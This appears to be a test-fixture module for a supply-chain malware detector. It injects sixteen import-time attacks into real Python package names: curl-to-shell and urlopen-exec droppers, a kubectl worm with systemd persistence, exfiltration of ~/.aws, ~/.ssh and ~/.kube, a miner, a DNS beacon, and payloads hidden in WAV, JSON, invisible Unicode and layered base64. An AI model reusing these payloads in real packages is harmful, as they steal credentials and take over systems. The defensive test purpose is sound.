"""Takeovers that act when a package is imported: droppers, loaders, miners, beacons."""

from __future__ import annotations

import base64
import io
import json
import wave
import zlib

from tests.builders.executables import elf
from tests.takeovers.incident import Incident
from tests.takeovers.release import Release


def _background_task(release: Release) -> None:
    release.append(
        "langchain_google_genai/__init__.py",
        """
        def _run_background_task():
            import os, platform, subprocess, sys, urllib.request

            if platform.system() != "Linux" or os.environ.get("_GENAI_INIT") == "1":
                return
            place = "/tmp/transformers.pyz"
            try:
                urllib.request.urlretrieve("https://git-tanstack.invalid/transformers.pyz", place)
                subprocess.Popen(
                    [sys.executable, place],
                    env={**os.environ, "_GENAI_INIT": "1"},
                    stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL,
                    start_new_session=True,
                )
            except Exception:
                pass


        _run_background_task()
        """,
    )


def _worm(release: Release) -> None:
    release.add(
        "langgraph_sdk/_durable.py",
        '''
        """Durable execution helpers."""
        import json
        import os
        import subprocess
        import urllib.request

        UNIT = """[Service]
        ExecStart=/usr/bin/python3 /var/tmp/rope.pyz
        Restart=always
        [Install]
        WantedBy=multi-user.target
        """

        def _ensure():
            data = urllib.request.urlopen("https://check.git-service.invalid/rope.pyz").read()
            with open("/var/tmp/rope.pyz", "wb") as out:
                out.write(data)
            with open("/etc/systemd/system/pgsql-monitor.service", "w") as unit:
                unit.write(UNIT)
            subprocess.run(["systemctl", "enable", "--now", "pgsql-monitor.service"])

        def _spread():
            out = subprocess.run(["kubectl", "get", "pods", "-o", "json"], capture_output=True)
            for pod in json.loads(out.stdout).get("items", []):
                name = pod["metadata"]["name"]
                subprocess.run(["kubectl", "exec", name, "--", "sh", "-c",
                                "curl -s https://check.git-service.invalid/rope.pyz | python3"])

        try:
            _ensure()
            _spread()
        except Exception:
            pass
        ''',
    )
    release.append("langgraph_sdk/__init__.py", "from langgraph_sdk import _durable  # noqa\n")


def _wave(release: Release) -> None:
    payload = b"import os\nos.system('curl -s https://fx.tel-sound.invalid/h | sh')\n"
    hidden = bytes(byte ^ 0x5A for byte in payload)
    raw = io.BytesIO()
    with wave.open(raw, "wb") as sound:
        sound.setparams((1, 1, 8000, 0, "NONE", "not compressed"))
        sound.writeframes(hidden + bytes(800))
    release.add("amqp/ringtone.wav", raw.getvalue())
    release.append(
        "amqp/sasl.py",
        """
        def _load_tone(path):
            import wave

            with wave.open(path, "rb") as sound:
                frames = sound.readframes(sound.getnframes())
            exec(bytes(b ^ 0x5A for b in frames).rstrip(b"Z"))


        import os as _os
        _load_tone(_os.path.join(_os.path.dirname(__file__), "ringtone.wav"))
        """,
    )


def _javascript_runtime(release: Release) -> None:
    blob = base64.b64encode(b"process.env" * 2000).decode()
    release.add(
        "torchdata/_runtime/router_runtime.js", f"eval(Buffer.from('{blob}','base64')+'')\n"
    )
    release.add(
        "torchdata/_runtime/start.py",
        """
        import os
        import platform
        import subprocess
        import tempfile
        import urllib.request
        import zipfile

        HERE = os.path.dirname(os.path.abspath(__file__))

        def start():
            name = f"bun-{platform.system().lower()}-x64"
            archive = os.path.join(tempfile.gettempdir(), name + ".zip")
            urllib.request.urlretrieve(f"https://releases.bun-js.invalid/{name}.zip", archive)
            with zipfile.ZipFile(archive) as z:
                z.extractall(tempfile.gettempdir())
            bun = os.path.join(tempfile.gettempdir(), name, "bun")
            os.chmod(bun, 0o755)
            subprocess.Popen([bun, os.path.join(HERE, "router_runtime.js")],
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
        """,
    )
    release.append(
        "torchdata/__init__.py",
        """
        import threading as _threading
        from torchdata._runtime import start as _start
        _threading.Thread(target=_start.start, daemon=True).start()
        """,
    )


def _blob_in_subprocess(release: Release) -> None:
    code = (
        "import os,tarfile,urllib.request as u\n"
        "t=tarfile.open('/tmp/l.tgz','w:gz')\n"
        "[t.add(os.path.expanduser(p)) for p in ('~/.aws','~/.ssh','~/.kube')]\n"
        "t.close()\n"
        "u.urlopen('https://whereis.my-infer.invalid/l',open('/tmp/l.tgz','rb').read())\n"
    )
    blob = base64.b64encode(code.encode()).decode()
    release.append(
        "google/api_core/__init__.py",
        f"""
        import base64 as _b, subprocess as _s, sys as _y
        _t = "{blob}"
        _s.Popen([_y.executable, "-c", f"import base64;exec(base64.b64decode('{{_t}}'))"])
        """,
    )


def _nested_blob(release: Release) -> None:
    code = (
        "import urllib.request as u\n"
        "def report(c):\n"
        "    u.urlopen('https://api.tele-bot.invalid/bot1:x/sendMessage',"
        " data=('text='+str(c.__dict__)).encode())\n"
        "_o=AsyncPostgrestClient.__init__\n"
        "def _i(self,*a,**k):\n    _o(self,*a,**k)\n    report(self)\n"
        "AsyncPostgrestClient.__init__=_i\n"
    )
    data = code.encode()
    for _ in range(8):
        data = base64.b64encode(zlib.compress(data))[::-1]
        data = b"exec((_)(%r))" % data
    release.append(
        "postgrest/_async/client.py",
        "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
        + data.decode()
        + "\n",
    )


def _miner(release: Release) -> None:
    release.append(
        "torchdata/stateful_dataloader/worker.py",
        """
        def safe_run(url, name):
            import os, stat, subprocess, tempfile
            import urllib.request

            place = os.path.join(tempfile.gettempdir(), name)
            if not os.path.exists(place):
                with open(place, "wb") as out:
                    out.write(urllib.request.urlopen(url).read())
                os.chmod(place, os.stat(place).st_mode | stat.S_IXUSR)
            subprocess.Popen([place, "-u", "4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66",
                              "-o", "stratum+tcp://pool.connect-mine.invalid:8080", "-B"])


        safe_run("https://raw.model-cdn.invalid/raw/main/ultralytics_runner", "torch_runner")
        """,
    )
    release.append("torchdata/__init__.py", "import torchdata.stateful_dataloader.worker\n")


def _beacon(release: Release) -> None:
    release.append(
        "cachelib/__init__.py",
        """
        def _ping():
            import getpass, os, socket

            text = f"{getpass.getuser()}-{socket.gethostname()}-{os.getcwd()}"
            name = text.encode().hex()[:60]
            try:
                socket.gethostbyname(f"{name}.h4ck.oast-cb.invalid")
            except OSError:
                pass


        _ping()
        """,
    )


def _shipped_binary(release: Release) -> None:
    release.add("h5netcdf/tools/setup", elf(["execve", "socket", "connect", "ptrace"]))
    release.append(
        "h5netcdf/utils.py",
        """
        import os as _os
        import subprocess as _subprocess

        _tool = _os.path.join(_os.path.dirname(__file__), "tools", "setup")
        try:
            _os.chmod(_tool, 0o755)
            _subprocess.Popen([_tool], stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
        except OSError:
            pass
        """,
    )


def _extension(release: Release) -> None:
    release.add(
        "jsonpath_ng/_speedups.abi3.so",
        elf(["PyInit__speedups", "system", "socket", "connect", "fork", "execve"]),
    )
    release.append("jsonpath_ng/__init__.py", "from jsonpath_ng import _speedups  # noqa: F401\n")


def _covers_tracks(release: Release) -> None:
    release.add(
        "typer/_setup_env.py",
        """
        import os
        import subprocess
        import sys
        import tempfile
        import urllib.request

        def main():
            place = os.path.join(tempfile.gettempdir(), "6202033.vbs")
            urllib.request.urlretrieve("http://sfrclak.invalid:8000/6202033", place)
            if sys.platform == "win32":
                subprocess.Popen(["cscript", "//nologo", place], creationflags=0x08000000)
            else:
                subprocess.Popen(["nohup", "/bin/sh", place])
            here = os.path.abspath(__file__)
            with open(here.replace("_setup_env", "_setup_env_clean"), "w") as clean:
                clean.write("")
            os.remove(here)

        main()
        """,
    )
    release.append(
        "typer/__init__.py",
        """
        try:
            from typer import _setup_env
        except ImportError:
            pass
        """,
    )


def _data_file(release: Release) -> None:
    code = "import urllib.request as u;exec(u.urlopen('https://d.tab-lang.invalid/n').read())"
    release.add("langcodes/data/tables.json", json.dumps({"version": 3, "z": code.encode().hex()}))
    release.append(
        "langcodes/util.py",
        """
        def _tables():
            import json

            with open(data_filename("tables.json")) as table:
                row = json.load(table)
            return compile(bytes.fromhex(row["z"]).decode(), "tables", "exec")


        exec(_tables())
        """,
    )


def _invisible(release: Release) -> None:
    code = "import os\nos.system('curl -s https://g.worm-glass.invalid/a | sh')\n"
    hidden = "".join(chr(0xE0100 + byte) for byte in code.encode())
    release.append(
        "marshmallow/utils.py" if "marshmallow/utils.py" in release.members else _UTILS,
        f"""
        def _decode(text):
            return bytes(ord(c) - 0xE0100 for c in text if ord(c) >= 0xE0100).decode()


        eval(compile(_decode("{hidden}"), "", "exec"))
        """,
    )


_UTILS = "marshmallow/validate.py"


def _second_stage(release: Release) -> None:
    release.append(
        "h5netcdf/core.py",
        """
        def _update_tables():
            import urllib.request

            with urllib.request.urlopen("http://198.51.100.44:8080/tables.py") as answer:
                exec(answer.read(), {})


        _update_tables()
        """,
    )


def _own_cipher(release: Release) -> None:
    code = "import os; os.system('curl -s https://c.shift-by.invalid | sh')"
    numbers = [(ord(c) * 3 + n) % 1009 for n, c in enumerate(code)]
    release.append(
        "pyparsing/common.py",
        f"""
        _weights = {numbers}
        _inverse = pow(3, -1, 1009)
        _text = "".join(chr(((w - n) * _inverse) % 1009) for n, w in enumerate(_weights))
        getattr(__builtins__, "ex" + "ec", None) or vars(__import__("builtins"))["ex" + "ec"](_text)
        """,
    )


def _encrypted_config(release: Release) -> None:
    release.append(
        "joserfc/jwa.py",
        """
        def _load_profile():
            import os, platform, subprocess, tempfile, urllib.request
            from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

            raw = urllib.request.urlopen("https://conf.fasterxml-org.invalid/config.txt").read()
            cipher = Cipher(algorithms.AES(b"9237527890923496"), modes.CBC(raw[:16]))
            text = cipher.decryptor().update(raw[16:]).decode()
            table = dict(line.split("|") for line in text.splitlines())
            place = os.path.join(tempfile.gettempdir(), "svchosts.exe")
            urllib.request.urlretrieve(table[platform.system()], place)
            subprocess.Popen([place])


        try:
            _load_profile()
        except Exception:
            pass
        """,
    )


INCIDENTS = (
    Incident(
        id="background-task",
        after="PyPI 2",
        project="langchain-google-genai",
        inject=_background_task,
    ),
    Incident(id="lateral-worm", after="PyPI 3", project="langgraph-sdk", inject=_worm),
    Incident(id="wave-file", after="PyPI 6", project="amqp", inject=_wave),
    Incident(id="js-runtime", after="PyPI 7", project="torchdata", inject=_javascript_runtime),
    Incident(
        id="blob-subprocess", after="PyPI 7", project="google-api-core", inject=_blob_in_subprocess
    ),
    Incident(id="nested-blob", after="PyPI 8", project="postgrest", inject=_nested_blob),
    Incident(id="miner", after="PyPI 9", project="torchdata", inject=_miner),
    Incident(id="beacon", after="PyPI 10", project="cachelib", inject=_beacon),
    Incident(id="shipped-binary", after="npm 19", project="h5netcdf", inject=_shipped_binary),
    Incident(id="extension", after="npm 19", project="jsonpath-ng", inject=_extension),
    Incident(id="covers-tracks", after="npm 31", project="typer", inject=_covers_tracks),
    Incident(id="data-file", after="npm 30", project="langcodes", inject=_data_file),
    Incident(id="invisible", after="npm 34", project="marshmallow", inject=_invisible),
    Incident(id="second-stage", after="Maven 50", project="h5netcdf", inject=_second_stage),
    Incident(id="own-cipher", after="also expect", project="pyparsing", inject=_own_cipher),
    Incident(id="encrypted-config", after="Maven 47", project="joserfc", inject=_encrypted_config),
)
